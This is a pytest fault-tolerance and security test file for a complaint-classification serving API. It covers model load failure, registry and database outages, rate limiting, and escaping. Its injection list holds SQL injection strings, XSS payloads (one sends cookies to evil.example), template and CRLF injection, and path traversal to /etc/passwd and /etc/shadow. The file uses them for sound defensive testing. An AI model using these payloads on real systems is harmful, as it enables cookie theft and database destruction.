"""Faults and abuse the service must survive: a broken model at start, an unreachable registry, the database
going away, a flood of requests from one key, injection attempts in every text field."""

from __future__ import annotations

import re
import time

import pytest
from mlflow.exceptions import MlflowException
from sqlalchemy import create_engine, select, text
from sqlalchemy.engine import make_url
from typer.testing import CliRunner

from serving.db import Complaint
from serving.users import Users
from tests.conftest import POSTGRES_URL
from tests.serving_helpers import make_keys, serving_settings, started, wait_ready
from training.cli import app as cli

pytestmark = pytest.mark.slow

TEXT = "Pipa air bocor di depan rumah, air terbuang sejak pagi di Perumahan Tiban Koperasi"


def test_a_corrupted_model_at_start_leaves_the_service_alive_and_not_ready(store, tmp_path):
    broken = tmp_path / "model"
    broken.mkdir()
    (broken / "MLmodel").write_text("flavors: {python_function: {loader_module: no.such.module}}\n")
    for source in (str(broken), str(tmp_path / "missing")):
        settings = serving_settings(store[0], tmp_path, model_uri=source, reload_interval=0)
        keys = make_keys(settings) if source == str(broken) else None
        with started(settings) as client:
            deadline = time.monotonic() + 30
            while client.get("/readyz").json()["reason"] == "loading the model" and time.monotonic() < deadline:
                time.sleep(0.1)
            ready = client.get("/readyz")
            assert ready.status_code == 503 and ready.json()["reason"], ready.json()
            assert client.get("/healthz").status_code == 200
            if keys:
                refused = client.post("/v1/predict", json={"text": TEXT}, headers={"X-API-Key": keys.intake})
                assert refused.status_code == 503 and "no model loaded" in refused.json()["detail"]
            time.sleep(0.5)
            assert client.get("/healthz").status_code == 200, "still alive, no crash loop"


def test_an_unreachable_registry_keeps_the_old_model_serving(store, tmp_path):
    settings = serving_settings(store[0], tmp_path, reload_interval=0.2)
    keys = make_keys(settings)
    with started(settings) as client:
        wait_ready(client)
        holder = client.app.state.service.holder

        def unreachable(*args, **kwargs):
            raise MlflowException("API request to registry failed: connection refused")

        holder.client.get_model_version_by_alias = unreachable
        deadline = time.monotonic() + 10
        while holder.status.last_error is None and time.monotonic() < deadline:
            time.sleep(0.1)
        answer = client.post("/v1/predict", json={"text": TEXT}, headers={"X-API-Key": keys.intake})
        assert answer.status_code == 200 and answer.json()["model"]["version"] == "1"
        status = client.get("/v1/model", headers={"X-API-Key": keys.intake}).json()["status"]
        assert "connection refused" in status["last_error"]
        assert 'triase_model_loads_total{outcome="failed"}' in client.get("/metrics").text
        assert client.get("/readyz").status_code == 200


def test_predictions_continue_while_the_database_is_down(store, tmp_path, postgres_url):
    settings = serving_settings(store[0], tmp_path, database_url=postgres_url)
    keys = make_keys(settings)
    name = make_url(postgres_url).database
    admin = create_engine(POSTGRES_URL, isolation_level="AUTOCOMMIT")
    with started(settings) as client:
        wait_ready(client)
        headers = {"X-API-Key": keys.intake}
        assert client.post("/v1/predict", json={"text": "sebelum gangguan"}, headers=headers).status_code == 200
        try:
            with admin.connect() as conn:
                conn.execute(text(f'ALTER DATABASE "{name}" WITH ALLOW_CONNECTIONS false'))
                conn.execute(text(f"SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = '{name}'"))
            answers = [
                client.post("/v1/predict", json={"text": f"{TEXT} ({i})"}, headers=headers).status_code
                for i in range(5)
            ]
            batch = client.post("/v1/predict/batch", json={"items": [{"text": TEXT}] * 3}, headers=headers)
            assert answers == [200] * 5 and batch.status_code == 200
            assert client.app.state.service.recorder.pending >= 8
            unknown = client.post("/v1/predict", json={"text": TEXT}, headers={"X-API-Key": keys.admin})
            assert unknown.status_code == 503, "a key never verified cannot be checked now: 503, not 500"
            page = client.get("/review/login")
            assert page.status_code in (200, 503)
        finally:
            with admin.connect() as conn:
                conn.execute(text(f'ALTER DATABASE "{name}" WITH ALLOW_CONNECTIONS true'))
            admin.dispose()
        assert client.app.state.service.recorder.wait_idle(30)
        with client.app.state.db.session() as s:
            assert len(list(s.scalars(select(Complaint.id)))) == 9, "every prediction was recorded once"


def test_one_key_is_rate_limited_with_429_others_are_not(store, tmp_path):
    settings = serving_settings(store[0], tmp_path, rate_limit="3/minute")
    keys = make_keys(settings)
    with started(settings) as client:
        wait_ready(client)
        codes = [client.get("/v1/taxonomy", headers={"X-API-Key": keys.intake}).status_code for _ in range(4)]
        assert codes == [200, 200, 200, 429]
        limited = client.post("/v1/predict", json={"text": TEXT}, headers={"X-API-Key": keys.intake})
        assert limited.status_code == 429 and int(limited.headers["retry-after"]) >= 1
        assert "rate limit" in limited.json()["detail"]
        assert client.get("/v1/taxonomy", headers={"X-API-Key": keys.admin}).status_code == 200


INJECTIONS = [
    "'; DROP TABLE complaints; --",
    "1' OR '1'='1",
    "Robert'); DELETE FROM users WHERE ('a'='a",
    "<script>document.location='http://evil.example/?c='+document.cookie</script>",
    '"><svg onload=alert(1)>',
    "{{ 7*7 }} {% raw %}${7*7}",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: pwned=1",
]


def test_injection_attempts_are_stored_verbatim_and_shown_escaped(store, tmp_path):
    settings = serving_settings(store[0], tmp_path, rate_limit="")
    keys = make_keys(settings)
    with started(settings) as client:
        wait_ready(client)
        Users(client.app.state.db).create("ani", "sandi-ani-123", "reviewer")
        for i, attack in enumerate(INJECTIONS):
            body = {"text": f"Laporan jalan rusak {attack}", "id": attack[:200], "channel": attack[:50]}
            answer = client.post("/v1/predict", json=body, headers={"X-API-Key": keys.intake, "X-Request-ID": f"r{i}"})
            assert answer.status_code == 200 and answer.json()["id"] == attack[:200]
        assert client.app.state.service.recorder.wait_idle()
        with client.app.state.db.session() as s:
            stored = {c.record_id: c for c in s.scalars(select(Complaint))}
        assert len(stored) == len(INJECTIONS)
        for i, attack in enumerate(INJECTIONS):
            assert stored[f"r{i}"].text == f"Laporan jalan rusak {attack}" and stored[f"r{i}"].external_id == attack

        token = re.search(r'name="csrf" value="([^"]+)"', client.get("/review/login").text).group(1)
        client.post("/review/login", data={"username": "ani", "password": "sandi-ani-123", "csrf": token})
        for attack in INJECTIONS:
            page = client.get("/review", params={"q": attack, "opd": attack, "status": attack})
            assert page.status_code == 200
        for complaint in stored.values():
            page = client.get(f"/review/complaints/{complaint.id}").text
            assert "<script>document" not in page and "<svg onload" not in page
        assert "&lt;script&gt;document.location" in client.get(f"/review/complaints/{stored['r3'].id}").text
        assert "{{ 7*7 }}" in client.get(f"/review/complaints/{stored['r5'].id}").text, "templates are not evaluated"
        with client.app.state.db.session() as s:
            assert s.execute(text("select count(*) from users")).scalar() == 1, "tables intact"


@pytest.mark.parametrize(
    "args",
    [
        ["train", "--data", "../../../../etc/passwd"],
        ["train", "--data", "/etc/../etc/hostname.csv"],
        ["predict", "--file", "../../../../no/such/file.csv"],
        ["evaluate", "--data", "../../../../etc/shadow.xlsx"],
    ],
)
def test_path_tricks_in_file_options_end_in_a_clear_error(settings, args):
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 1
    assert "error:" in result.output and "Traceback" not in result.output
